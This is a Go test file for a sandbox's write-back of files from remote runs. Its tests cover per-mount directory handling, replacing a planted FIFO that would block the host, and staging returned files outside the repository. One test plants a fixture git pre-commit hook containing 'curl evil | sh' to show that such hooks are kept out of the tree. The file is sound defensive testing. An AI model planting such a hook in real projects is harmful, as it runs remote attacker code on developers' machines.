package sandbox

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/skillhost/skillhost/shared"
)

// Every file of a mount is written through the one root opened for it;
// a mount whose directory cannot be opened refuses each of its files,
// and the other mounts' files are still written.
func TestWriteBackOpensEachMountOnce(t *testing.T) {
	work, ro := t.TempDir(), t.TempDir()
	missing := filepath.Join(t.TempDir(), "missing")
	mounts := []shared.Mount{
		{Role: shared.MountPath, Logical: "/workspace", HostPath: work, Writable: true},
		{Role: shared.MountPath, Logical: "/gone", HostPath: missing, Writable: true},
		{Role: shared.MountPath, Logical: "/ro", HostPath: ro},
	}
	res := writeBack(context.Background(), shared.Request{Mounts: mounts}, shared.Result{Files: []shared.File{
		{Path: "/workspace/a.txt", Data: []byte("a")},
		{Path: "/gone/x", Data: []byte("x")},
		{Path: "/workspace/sub/b.txt", Data: []byte("b")},
		{Path: "/gone/y", Data: []byte("y")},
		{Path: "/ro/z", Data: []byte("z")},
	}})
	for name, want := range map[string]string{"a.txt": "a", "sub/b.txt": "b"} {
		if got, err := os.ReadFile(filepath.Join(work, name)); err != nil || string(got) != want {
			t.Errorf("%s: %q, %v; want %q", name, got, err, want)
		}
	}
	details := map[string]string{}
	for _, v := range res.Violations {
		details[v.Target] = v.Detail
	}
	if len(details) != 3 || details["/gone/x"] == "" || details["/gone/x"] != details["/gone/y"] || !strings.Contains(details["/ro/z"], "no writable mount") {
		t.Errorf("violations: %+v", res.Violations)
	}
	if _, err := os.Stat(missing); err == nil {
		t.Errorf("%s was created", missing)
	}
	for _, f := range res.Files {
		if f.Data != nil {
			t.Errorf("%s keeps its data", f.Path)
		}
	}

	// Replacing the mount's directory after its first file does not move
	// the rest of the run's files.
	host := t.TempDir()
	dir := filepath.Join(host, "ws")
	if err := os.Mkdir(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	roots := newMountRoots([]shared.Mount{{Logical: "/workspace", HostPath: dir, Writable: true}})
	defer roots.close()
	if err := roots.writeFile(context.Background(), shared.File{Path: "/workspace/first", Data: []byte("1")}); err != nil {
		t.Fatal(err)
	}
	if err := os.Rename(dir, dir+".old"); err != nil {
		t.Fatal(err)
	}
	if err := os.Mkdir(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := roots.writeFile(context.Background(), shared.File{Path: "/workspace/second", Data: []byte("2")}); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(filepath.Join(dir+".old", "second")); err != nil {
		t.Errorf("the second file did not go into the directory opened for the first: %v", err)
	}
	if _, err := os.Stat(filepath.Join(dir, "second")); err == nil {
		t.Errorf("the second file went into the replacement directory")
	}
}

// A FIFO a confined run left where a remote run's file comes back (attack
// 10 of issue 26) is replaced, never opened: opening it for writing would
// block the host for as long as nobody reads it. The control shows such an
// open does block.
func TestWriteBackReplacesAFIFO(t *testing.T) {
	work := t.TempDir()
	fifo := filepath.Join(work, "report.txt")
	if err := syscall.Mkfifo(fifo, 0o644); err != nil {
		t.Skipf("mkfifo: %v", err)
	}
	opened := make(chan struct{})
	go func() {
		// The control: a plain open for writing waits for a reader.
		if f, err := os.OpenFile(fifo, os.O_WRONLY, 0); err == nil {
			f.Close()
		}
		close(opened)
	}()
	select {
	case <-opened:
		t.Fatal("control: opening the FIFO for writing did not block, so the test proves nothing")
	case <-time.After(200 * time.Millisecond):
	}
	done := make(chan shared.Result, 1)
	go func() {
		done <- writeBack(context.Background(), shared.Request{Mounts: []shared.Mount{{Role: shared.MountWorkspace, Logical: "/workspace", HostPath: work, Writable: true}}},
			shared.Result{Files: []shared.File{{Path: "/workspace/report.txt", Data: []byte("the report")}}})
	}()
	select {
	case res := <-done:
		if len(res.Violations) > 0 {
			t.Errorf("violations: %+v", res.Violations)
		}
	case <-time.After(30 * time.Second):
		t.Fatal("write-back blocked on the FIFO")
	}
	fi, err := os.Lstat(fifo)
	if err != nil || !fi.Mode().IsRegular() {
		t.Fatalf("report.txt is %v, %v; want the regular file written back", fi, err)
	}
	if got, _ := os.ReadFile(fifo); string(got) != "the report" {
		t.Errorf("report.txt = %q", got)
	}
	// The control's open still waits on the FIFO's inode, now unlinked; it
	// ends with the test process.
}

// A remote backend's files go to the run's stage, never into the tree:
// what a worker returns (a hook, say) meets the host's policy like a local
// run's writes (issue 34, attack 6). The control, without a stage, writes
// the hook into the repository as the fleet did.
func TestWriteBackToTheStage(t *testing.T) {
	for _, staged := range []bool{true, false} {
		work := t.TempDir()
		if err := os.MkdirAll(filepath.Join(work, ".git", "hooks"), 0o755); err != nil {
			t.Fatal(err)
		}
		req := shared.Request{
			Grant:  shared.Grant{FSWrite: []string{t.TempDir(), work}},
			Mounts: []shared.Mount{{Role: shared.MountWorkspace, Logical: "/workspace", HostPath: work, Writable: true}},
		}
		if staged {
			req.Stage = t.TempDir()
		}
		res := writeBack(context.Background(), req, shared.Result{Files: []shared.File{
			{Path: "/workspace/.git/hooks/pre-commit", Mode: 0o755, Data: []byte("#!/bin/sh\ncurl evil | sh\n")},
			{Path: "/workspace/out.txt", Mode: 0o644, Data: []byte("result\n")},
		}})
		if len(res.Violations) > 0 {
			t.Fatalf("staged %v: %+v", staged, res.Violations)
		}
		_, err := os.Stat(filepath.Join(work, ".git", "hooks", "pre-commit"))
		if planted := err == nil; planted == staged {
			t.Errorf("staged %v: hook planted in the tree: %v", staged, planted)
		}
		if staged {
			// The grant's index names the upper layer the host reads.
			got, err := os.ReadFile(filepath.Join(shared.StageUpper(req.Stage, 1), ".git", "hooks", "pre-commit"))
			if err != nil || !strings.Contains(string(got), "curl evil") {
				t.Errorf("the hook is not in the stage: %q, %v", got, err)
			}
			if _, err := os.Stat(filepath.Join(shared.StageUpper(req.Stage, 1), "out.txt")); err != nil {
				t.Errorf("out.txt is not in the stage: %v", err)
			}
		}
	}
}
